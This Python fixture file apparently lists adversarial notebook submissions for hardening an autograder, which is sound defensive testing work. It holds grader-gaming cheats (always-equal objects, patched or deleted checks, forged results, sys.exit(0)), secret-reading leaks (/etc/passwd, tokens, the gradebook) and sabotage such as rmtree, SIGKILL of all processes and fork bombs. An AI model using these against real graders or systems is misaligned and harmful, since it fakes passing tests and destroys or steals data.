"""The submissions of `benchmarks/adversary.py`: a name, a kind, what is done, and the checks it should lose.

`cells` replaces solution cells; `spoil(notebook, file)` changes the notebook (a dict), returns the bytes of
the file, or writes something else at its place and returns None. ROOT and MARK are filled in.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field

EXPECTED = {"expected-loss/course", "expected-loss/any", "expected-loss/one"}
VERDICT = {f"start-verdict/{name}" for name in ("healthy", "high", "low", "nan")}
BANDS = VERDICT - {"start-verdict/nan"}  # those that need the ruler
INIT = {f"init-weights/{name}" for name in ("matrices", "residual", "gains", "biases")}
MEAN = {f"masked-mean/{name}" for name in ("full", "padding", "empty", "leak", "gradient")}
ALL = EXPECTED | VERDICT | INIT | MEAN


@dataclass(frozen=True)
class Attack:
    """One submission."""

    name: str
    kind: str
    cells: dict[str, str] = field(default_factory=dict)
    lost: frozenset[str] | set[str] = frozenset()
    spoil: Callable | None = None


def _mean(body: str, lost: set[str] = MEAN) -> dict:
    lines = "\n    ".join(body.splitlines())
    return {"cells": {"masked-mean": f"def masked_mean(losses, mask):\n    {lines}\n"}, "lost": lost}


def _init(before: str, body: str = "pass") -> dict:
    return {
        "cells": {"init-weights": f"{before}\ndef init_weights(model, config):\n    {body}\n"},
        "lost": INIT,
    }


def _leak(expression: str) -> dict:
    """Say what was found in an error, a print and a returned string; refused access says nothing."""
    return _mean(
        f"import os, sys, gc\ntry:\n    found = {expression}\nexcept BaseException:\n    found = None\n"
        "if found:\n    print('LEAK', found)\n    raise RuntimeError('LEAK ' + str(found)[:80])\nreturn 'nothing'"
    )


def _cells(change: Callable) -> Callable:
    def spoil(notebook: dict, file: object) -> dict:
        cells = []
        for cell in notebook["cells"]:
            cells += change(cell)
        return notebook | {"cells": cells}

    return spoil


def _is_check(cell: dict) -> bool:
    return bool(cell["metadata"].get("nbgrader", {}).get("locked"))


def _edited_checks(cell: dict) -> list[dict]:
    return [cell | {"source": "print('✓')"} if _is_check(cell) else cell]


def _rich_checks(cell: dict) -> list[dict]:
    if _is_check(cell):
        cell["metadata"]["nbgrader"]["points"] = 1000
    return [cell]


def _tagged(cell: dict) -> list[dict]:
    cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
    return [cell]


def _without_metadata(cell: dict) -> list[dict]:
    return [cell | {"metadata": {}}]


def _version_3(notebook: dict, file: object) -> dict:
    cells = []
    for cell in notebook["cells"]:
        cell = {key: value for key, value in cell.items() if key != "source"} | {"input": cell["source"]}
        cells.append(cell)
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}


def _unknown_schema(cell: dict) -> list[dict]:
    if "nbgrader" in cell["metadata"]:
        cell["metadata"]["nbgrader"]["schema_version"] = 99
    return [cell]


def _windows_lines(cell: dict) -> list[dict]:
    return [cell | {"source": cell["source"].replace("\n", "\r\n")}]


def _as_lines(cell: dict) -> list[dict]:
    return [cell | {"source": cell["source"].splitlines(True)}]


def _number_as_source(cell: dict) -> list[dict]:
    return [cell | {"source": 7} if cell["id"] == "masked-mean" else cell]


def _paths_as_names(cell: dict) -> list[dict]:
    if _is_check(cell):
        cell["metadata"]["nbgrader"]["grade_id"] = "../../../hacked"
    return [cell]


def _link(notebook: dict, file: object) -> None:
    os.symlink(file.parent.parent.parent / "aaa-first" / file.parent.name / file.name, file)


def _pipe(notebook: dict, file: object) -> None:
    os.mkfifo(file)


def _folder(notebook: dict, file: object) -> None:
    file.mkdir()


def _huge(notebook: dict, file: object) -> None:
    with open(file, "wb") as stream:
        stream.truncate(2_000_000_000)


def _shipped_module(notebook: dict, file: object) -> dict:
    for name in ("torch.py", "numpy.py", "course.py", "sitecustomize.py"):
        (file.parent / name).write_text("raise SystemExit(0)\n")
    return notebook


def _renamed(notebook: dict, file: object) -> None:
    file.with_name("did-it-start (1).ipynb").write_text(json.dumps(notebook))


RIGHT_MEAN = "if not mask.any():\n    return (losses * 0).nan_to_num().sum()\nreturn losses[mask].mean()"
RIGHT_INIT = """with torch.no_grad():
        for name, w in model.named_parameters():
            if name.endswith("bias"): w.zero_()
            elif "ln_" in name: w.fill_(1)
            elif "c_proj" in name: w.normal_(std=0.02 / (2 * config.n_layer) ** 0.5)
            else: w.normal_(std=0.02)"""
ALWAYS = """class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __float__(self): return 6.238
    __hash__ = None
def expected_loss(vocab_size):
    return Yes(7.5)
"""
FORGE = """import os, struct, json
text = json.dumps(["dict", {"outcome": ["dict", {"output": ["dict", {"value": 1.0}], "printed": ""}]}]).encode()
for fd in range(64):
    try: os.write(fd, (struct.pack(">II", len(text), 0) + text) * 50)
    except OSError: pass
os._exit(0)"""
PATCHED = """import torch, sys
class _T: pass
torch.Tensor.std = lambda self, *a, **k: torch.tensor(0.02)
torch.Tensor.mean = lambda self, *a, **k: torch.tensor(0.0)
torch.equal = lambda a, b: False
for module in list(sys.modules.values()):
    for name in ("close", "judge", "number", "require_plain", "run_probe", "run_check", "all_finite"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: True)
            except Exception: pass
"""
DAEMON = """import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "MARK"])
    os._exit(0)
return 'left'"""
KILL = """import os, signal
for pid in (os.getppid(), 1, -1):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
return 'killed'"""
DESTROY = """import os, shutil
shutil.rmtree("ROOT", ignore_errors=True)
for file in ("ROOT/gradebook.db", "ROOT/hacked", "ROOT/submitted/aaa-first/hacked"):
    try: open(file, "w").write("hacked")
    except OSError: pass
return 'destroyed'"""
FRAMES = """import sys
frame, found = sys._getframe(), None
while frame:
    case = frame.f_locals.get("case") or {}
    if isinstance(case, dict) and "expected" in case: found = case["expected"]
    frame = frame.f_back
return found"""
STUBBORN = """import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass"""
THREADS = (
    "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"
)

# ruff: noqa: E501 (an attack reads best on one line)

ATTACKS = [
    # cheats
    Attack("always-equal", "cheat", {"expected-loss": ALWAYS}, EXPECTED | BANDS),
    Attack("patch-everything", "cheat", **_init(PATCHED)),
    Attack("patch-inside-call", "cheat", **_init("", "exec(" + repr(PATCHED) + ")")),
    Attack("forge-frames", "cheat", **_mean(FORGE)),
    Attack("forge-frames-at-import", "cheat", {"masked-mean": FORGE}, MEAN),
    Attack("exit-zero", "cheat", {"masked-mean": "import sys\nsys.exit(0)"}, MEAN),
    Attack("os-exit-zero", "cheat", {"masked-mean": "import os\nos._exit(0)"}, MEAN),
    Attack("exit-in-call", "cheat", **_mean("raise SystemExit(0)")),
    Attack("print-a-green-line", "cheat", **_mean("print('\\x1b[32m✓ passed\\x1b[0m')")),
    Attack("return-a-key", "cheat", **_mean("return {'key': None, 'passed': True, 'output': 0}")),
    Attack("dict-that-passes", "cheat", **_mean("return {'value': 1.0}")),
    Attack(
        "own-repr-and-class",
        "cheat",
        **_mean(
            "class T:\n    __class__ = float\n    def __repr__(self): return '1.0'\n    def __str__(self): return '1.0'\n"
            "return T()"
        ),
    ),
    Attack(
        "read-the-frames",
        "cheat",
        {
            "start-verdict": "def start_verdict(loss, vocab_size):\n    "
            + "\n    ".join(FRAMES.splitlines())
            + "\n"
        },
        VERDICT,
    ),
    Attack(
        "hard-coded-visible-cases",
        "cheat",
        {
            "expected-loss": "def expected_loss(v):\n    return {512: 6.238324625, 50257: 10.8249, 1: 0.0}.get(v, 3.0)"
        },
        {"expected-loss/any"} | BANDS,
    ),
    Attack("edited-checks", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, _cells(_edited_checks)),
    Attack(
        "deleted-checks",
        "cheat",
        {"masked-mean": "masked_mean = 7"},
        MEAN,
        _cells(lambda cell: [] if _is_check(cell) else [cell]),
    ),
    Attack("points-of-my-own", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, _cells(_rich_checks)),
    Attack("tagged-cells", "cheat", {"masked-mean": "masked_mean = 7"}, MEAN, _cells(_tagged)),
    Attack(
        "replace-the-checker",
        "cheat",
        **_init(
            "import sys, course.notebook, course.judging\ncourse.notebook.check = lambda *a: None\n"
            "sys.modules['course.judging'].judge = lambda *a: None\nsys.modules['course.grade.wire'] = None"
        ),
    ),
    Attack(
        "late-thread",
        "cheat",
        **_init(
            "import threading, builtins\nthreading.Thread(target=lambda: setattr(builtins, 'abs', lambda x: 0)).start()"
        ),
    ),
    Attack("stop-the-clock", "cheat", **_mean("import time\ntime.monotonic = lambda: 0\nwhile True: pass")),
    # leaks
    Attack("find-solutions", "leak", **_leak("[d for d, _, _ in os.walk('/') if '18-01-did-it-start' in d]")),
    Attack("list-the-class", "leak", **_leak("os.listdir('ROOT')")),
    Attack(
        "read-a-neighbour",
        "leak",
        **_leak("open('ROOT/submitted/aaa-first/18-01-did-it-start/did-it-start.ipynb').read()"),
    ),
    Attack("read-the-gradebook", "leak", **_leak("open('ROOT/gradebook.db', 'rb').read(99)")),
    Attack("read-the-secret", "leak", **_leak("open('ROOT/gradebook-secret.txt').read()")),
    Attack(
        "find-checks",
        "leak",
        **_leak(
            "[d for d, _, fs in os.walk(__import__('minigpt').__path__[0] + '/../course') if 'checks.py' in fs]"
        ),
    ),
    Attack(
        "judge-in-memory",
        "leak",
        **_leak(
            "[o for o in gc.get_objects() if getattr(o, '__name__', '') in ('judge', '_mean_slip') and "
            "'judging' not in str(getattr(o, '__module__', '')) and 'course.check' != getattr(o, '__module__', '')]"
        ),
    ),
    Attack(
        "expected-in-memory",
        "leak",
        **_leak("[o for o in gc.get_objects() if type(o) is dict and 'expected' in o and 'delta' in o]"),
    ),
    Attack(
        "environment",
        "leak",
        **_leak("[k for k in os.environ if 'TOKEN' in k or 'KEY' in k or 'COURSE' in k]"),
    ),
    Attack("other-processes", "leak", **_leak("[p for p in os.listdir('/proc') if p.isdigit()]")),
    Attack("password-file", "leak", **_leak("open('/etc/passwd').read()")),
    Attack("network", "leak", **_leak("__import__('socket').create_connection(('127.0.0.1', 22), 1)")),
    Attack("local-socket", "leak", **_leak("__import__('socket').socket(1).bind('/tmp/s') or 1")),
    Attack(
        "trace-the-parent",
        "leak",
        **_leak("__import__('ctypes').CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0"),
    ),
    Attack("new-namespace", "leak", **_leak("__import__('ctypes').CDLL(None).unshare(0x10000000) == 0")),
    # sabotage
    Attack("destroy-files", "sabotage", **_mean(DESTROY)),
    Attack("kill-the-parent", "sabotage", **_mean(KILL)),
    Attack("leave-a-daemon", "sabotage", **_mean(DAEMON)),
    Attack("stop-myself", "sabotage", **_mean("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
    Attack(
        "error-with-teeth",
        "sabotage",
        **_mean("class E(BaseException):\n    def __str__(self): raise SystemExit(3)\nraise E"),
    ),
    Attack(
        "page-with-script",
        "sabotage",
        **_mean("print('<script>alert(1)</script>')\nraise ValueError('<img src=x>')"),
    ),
    # bombs
    Attack("endless-loop", "bomb", **_mean("while True: pass")),
    Attack("endless-cell", "bomb", {"masked-mean": "while True: pass"}, MEAN),
    Attack("endless-and-deaf", "bomb", **_mean(STUBBORN)),
    Attack("sleep", "bomb", **_mean("import time\ntime.sleep(10**6)")),
    Attack("all-memory", "bomb", **_mean("x = []\nwhile True: x.append(bytearray(10**8))")),
    Attack("huge-tensor", "bomb", **_mean("return torch.ones(10**12)")),
    Attack(
        "fork-bomb", "bomb", **_mean("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")
    ),
    Attack("thread-bomb", "bomb", **_mean(THREADS)),
    Attack("flood-of-prints", "bomb", **_mean("while True: print('x' * 10**6)")),
    Attack("flood-of-raw-output", "bomb", **_mean("import os\nwhile True: os.write(1, b'x' * 10**6)")),
    Attack(
        "full-disk",
        "bomb",
        **_mean("n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)\n    n += 1"),
    ),
    Attack(
        "many-files", "bomb", **_mean("n = 0\nwhile True:\n    open(f'/tmp/{n}', 'w').close()\n    n += 1")
    ),
    Attack("open-files", "bomb", **_mean("x = []\nwhile True: x.append(open('/dev/null'))")),
    Attack("recursion", "bomb", **_mean("return masked_mean(losses, mask)")),
    Attack("deep-answer", "bomb", **_mean("x = []\nfor _ in range(10**5): x = [x]\nreturn x")),
    Attack("wide-answer", "bomb", **_mean("return list(range(10**7))")),
    Attack("long-text", "bomb", **_mean("return 'x' * 10**8")),
    Attack("big-integer", "bomb", **_mean("return 10**100000")),
    Attack("crash", "bomb", **_mean("import ctypes\nctypes.string_at(0)")),
    # damaged files
    Attack("not-json", "damaged", lost=ALL, spoil=lambda n, f: b'{"cells": ['),
    Attack("cut-off", "damaged", lost=ALL, spoil=lambda n, f: json.dumps(n).encode()[:-5000]),
    Attack("empty", "damaged", lost=ALL, spoil=lambda n, f: b""),
    Attack("binary", "damaged", lost=ALL, spoil=lambda n, f: bytes(range(256)) * 50),
    Attack("a-list", "damaged", lost=ALL, spoil=lambda n, f: b"[1, 2, 3]"),
    Attack("deep-json", "damaged", lost=ALL, spoil=lambda n, f: b"[" * 10**6),
    Attack("two-gigabytes", "damaged", lost=ALL, spoil=_huge),
    Attack("a-link-to-a-neighbour", "damaged", lost=ALL, spoil=_link),
    Attack("a-pipe", "damaged", lost=ALL, spoil=_pipe),
    Attack("a-folder", "damaged", lost=ALL, spoil=_folder),
    Attack("no-notebook", "damaged", lost=ALL, spoil=lambda n, f: None),
    Attack("source-is-a-number", "damaged", lost=MEAN, spoil=_cells(_number_as_source)),
    Attack("cells-are-numbers", "damaged", lost=ALL, spoil=lambda n, f: n | {"cells": [1, None, "x", [2]]}),
    Attack("metadata-is-a-list", "damaged", spoil=lambda n, f: n | {"metadata": [1]}),
    Attack("version-3", "damaged", spoil=_version_3),
    Attack("unknown-schema", "damaged", spoil=_cells(_unknown_schema)),
    Attack("every-cell-twice", "damaged", spoil=_cells(lambda cell: [cell, cell])),
    Attack("no-cell-metadata", "damaged", spoil=_cells(_without_metadata)),
    Attack("paths-as-grade-ids", "damaged", spoil=_cells(_paths_as_names)),
    Attack(
        "half-a-character",
        "damaged",
        spoil=_cells(lambda cell: [cell | {"source": cell["source"] + "  # \ud800"}]),
    ),
    Attack("half-a-character-returned", "damaged", **_mean("print('\ud800')\nraise ValueError('\ud800')")),
    Attack("version-99", "damaged", spoil=lambda n, f: n | {"nbformat": 99}),
    # right answers that stock nbgrader or a strict grader may refuse
    Attack(
        "progress-bar",
        "right",
        **_mean(
            "import sys\nfor n in range(50): print(f'\\r{n}%', end='', file=sys.stderr)\n" + RIGHT_MEAN, set()
        ),
    ),
    Attack(
        "warnings", "right", **_mean("import warnings\nwarnings.warn('deprecated')\n" + RIGHT_MEAN, set())
    ),
    Attack("logging", "right", **_mean("import logging\nlogging.error('look')\n" + RIGHT_MEAN, set())),
    Attack("many-prints", "right", **_mean("print('x' * 100_000)\n" + RIGHT_MEAN, set())),
    Attack(
        "sub-process-prints", "right", **_mean("import os\nos.system('echo noise >&2')\n" + RIGHT_MEAN, set())
    ),
    Attack(
        "magic-lines",
        "right",
        {"masked-mean": "%matplotlib inline\n!true\n" + _mean(RIGHT_MEAN)["cells"]["masked-mean"]},
    ),
    Attack("writes-a-file", "right", **_mean("open('notes.txt', 'w').write('x')\n" + RIGHT_MEAN, set())),
    Attack("threads", "right", **_mean("torch.set_num_threads(4)\n" + RIGHT_MEAN, set())),
    Attack(
        "callable-object",
        "right",
        {
            "masked-mean": "class Mean:\n    def __call__(self, losses, mask):\n        "
            + RIGHT_MEAN.replace("\n", "\n        ")
            + "\nmasked_mean = Mean()"
        },
    ),
    Attack(
        "returns-the-model",
        "right",
        {"init-weights": f"def init_weights(model, config):\n    {RIGHT_INIT}\n    return model"},
    ),
    Attack(
        "prints-in-the-cell",
        "right",
        {
            "init-weights": f"print('hello')\ndef init_weights(model, config):\n    {RIGHT_INIT}\nprint(init_weights)"
        },
    ),
    Attack(
        "other-seed",
        "right",
        {"init-weights": f"def init_weights(model, config):\n    torch.manual_seed(1)\n    {RIGHT_INIT}"},
    ),
    Attack(
        "numpy-number",
        "right",
        {"expected-loss": "def expected_loss(vocab_size):\n    return np.log(vocab_size)"},
    ),
    Attack(
        "helper-in-another-answer",
        "right",
        {
            "expected-loss": "def ln(x):\n    return math.log(x)\ndef expected_loss(vocab_size):\n    return ln(vocab_size)",
        },
    ),
    Attack("windows-line-ends", "right", spoil=_cells(_windows_lines)),
    Attack("sources-as-lists", "right", spoil=_cells(_as_lines)),
    Attack("utf-16-file", "right", spoil=lambda n, f: json.dumps(n).encode("utf-16")),
    Attack("byte-order-mark", "right", spoil=lambda n, f: b"\xef\xbb\xbf" + json.dumps(n).encode()),
    Attack("renamed-by-a-browser", "right", spoil=_renamed),
    Attack("modules-beside-the-notebook", "right", spoil=_shipped_module),
]
